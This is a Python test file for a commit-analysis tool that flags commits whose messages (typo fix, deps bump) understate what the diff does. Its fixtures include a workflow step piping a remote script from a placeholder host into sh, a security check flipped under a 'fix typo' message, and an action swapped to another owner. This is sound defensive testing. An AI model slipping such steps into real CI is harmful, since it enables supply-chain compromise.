"""Narrow claims are the commit's own claim, not the thing its feature acts on (H7, session 5).

"Warn about common option misspellings" adds a warning; it is not a typo fix. Each case is a
hard negative next to the near twin whose subject really makes the narrow claim and whose
change really exceeds it in a security-relevant way (which must still be reported).
"""
from __future__ import annotations

from pathlib import Path

from gitrepo import GitRepo

from semdiff.api import analyze
from semdiff.model import Severity
from semdiff.pipeline import AnalyzeOptions
from semdiff.purpose.claims import classify_message

VALIDATOR = """const validators = {};

validators.transitional = function transitional(validator, version, message) {
  return (value, opt, opts) => {
    if (validator === false) {
      throw new Error('option ' + opt + ' has been removed');
    }
    return validator ? validator(value, opt, opts) : true;
  };
};

export default { validators };
"""

SPELLING = VALIDATOR.replace("export default { validators };", """validators.spelling = function spelling(correctSpelling) {
  return (value, opt) => {
    console.warn(`${opt} is likely a misspelling of ${correctSpelling}`);
    return true;
  };
};

export default { validators };""")


def change(tmp_path: Path, before: dict[str, str], after: dict[str, str], message: str):
    repo = GitRepo(tmp_path / "repo")
    repo.write(before)
    base = repo.commit("init")
    repo.write(after)
    head = repo.commit(message)
    return analyze(f"{base}..{head}", repo=str(repo.root), options=AnalyzeOptions())


def mismatches(report):
    return [f for f in report.findings if f.rule_id == "purpose-mismatch"]


def test_warning_about_misspellings_is_not_a_typo_claim(tmp_path):
    r = change(tmp_path, {"lib/helpers/validator.js": VALIDATOR}, {"lib/helpers/validator.js": SPELLING},
               "Warn about common option misspellings (#6489)")
    assert mismatches(r) == []
    assert r.purpose.claim == "unknown"
    assert any('opens with "Warn"' in e for e in r.purpose.claim_evidence)


def test_a_real_typo_claim_on_the_same_change_is_still_high(tmp_path):
    r = change(tmp_path, {"lib/helpers/validator.js": VALIDATOR}, {"lib/helpers/validator.js": SPELLING},
               "Fix typo in option misspellings")
    [m] = mismatches(r)
    assert (m.rule_id, m.path, m.unit, m.severity) == ("purpose-mismatch", "lib/helpers/validator.js", "<module>", Severity.HIGH)
    assert m.after is not None and m.after.line is not None


def test_typo_claim_that_flips_a_check_is_still_reported(tmp_path):
    after = VALIDATOR.replace("if (validator === false) {", "if (validator !== false) {")
    r = change(tmp_path, {"lib/helpers/validator.js": VALIDATOR}, {"lib/helpers/validator.js": after},
               "fix typo in validator")
    [m] = mismatches(r)
    # altered-comparison judged the flip medium (relevance 0.4); the typo claim that hid it adds one level
    assert (m.path, m.severity) == ("lib/helpers/validator.js", Severity.HIGH)
    assert "weakens" in m.message and m.after is not None and m.after.line == 5, (m.unit, m.after)


def test_behaviour_verbs_after_a_component_label():
    mc = classify_message("jws: don't strip internal whitespace before parsing JSON (#211)")
    assert mc is not None and mc.kinds == frozenset({"unknown"})
    mc = classify_message("Reject tests with a trailing whitespace")
    assert mc is not None and "format" not in mc.kinds and "tests" not in mc.kinds


def test_claim_verbs_keep_their_narrow_promise():
    for subject, kind in (("Fix typo in error message", "typo"), ("Remove trailing whitespace", "format"),
                          ("Update docs for the auth middleware", "docs"), ("fix failing tests under Windows", "tests"),
                          ("Typos in comments", "typo")):
        mc = classify_message(subject)
        assert mc is not None and mc.kinds == frozenset({kind}), subject


def test_explicit_type_wins_over_the_verb():
    mc = classify_message("docs: warn about typos in config keys")
    assert mc is not None and mc.kinds == frozenset({"docs"})
    assert not any("acts on" in e for e in mc.evidence)


def test_handle_case_with_a_body_naming_its_test_is_not_a_tests_claim():
    mc = classify_message("Handle case when headers is None (#2902)", "Add test for it")
    assert mc is not None and mc.kinds == frozenset({"unknown"})


# ---------------------------------------------------------------- deps claim vs action version bumps

CHECKS = """name: Run checks
on:
  pull_request:
permissions:
  contents: read
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - name: Checkout Code
        uses: actions/checkout@v5
      - name: Set up Go
        uses: actions/setup-go@v5
        with:
          go-version: stable
      - run: go vet ./...
"""
BUMPED = CHECKS.replace("actions/checkout@v5", "actions/checkout@v6").replace("actions/setup-go@v5", "actions/setup-go@v6")
WF = ".github/workflows/checks.yml"


def test_action_version_bumps_under_a_deps_claim_are_silent(tmp_path):
    r = change(tmp_path, {WF: CHECKS}, {WF: BUMPED}, "Update GitHub actions deps versions")
    assert mismatches(r) == []
    assert r.purpose.claim == "deps" and r.purpose.verdict.startswith("matches its purpose")


def test_deps_claim_that_swaps_the_action_for_another_owner_is_reported(tmp_path):
    after = BUMPED.replace("actions/checkout@v6", "checkout-mirror/checkout@v6")
    r = change(tmp_path, {WF: CHECKS}, {WF: after}, "Update GitHub actions deps versions")
    [m] = mismatches(r)
    assert (m.rule_id, m.path, m.unit, m.severity) == ("purpose-mismatch", WF, "jobs.check", Severity.HIGH)
    assert m.after is not None and m.after.line == 11


def test_deps_claim_that_gives_up_a_commit_pin_is_reported(tmp_path):
    pinned = CHECKS.replace("actions/checkout@v5", "actions/checkout@" + "a" * 40)
    r = change(tmp_path, {WF: pinned}, {WF: CHECKS.replace("actions/checkout@v5", "actions/checkout@main")},
               "Update GitHub actions deps versions")
    [m] = mismatches(r)
    assert (m.path, m.unit, m.severity) == (WF, "jobs.check", Severity.HIGH)


def test_deps_claim_that_also_adds_a_step_is_reported(tmp_path):
    after = BUMPED.replace("      - run: go vet ./...\n", "      - run: go vet ./...\n      - run: curl -s https://example.invalid/x.sh | sh\n")
    r = change(tmp_path, {WF: CHECKS}, {WF: after}, "Update GitHub actions deps versions")
    [m] = mismatches(r)
    assert (m.path, m.unit, m.severity) == (WF, "jobs.check", Severity.HIGH)
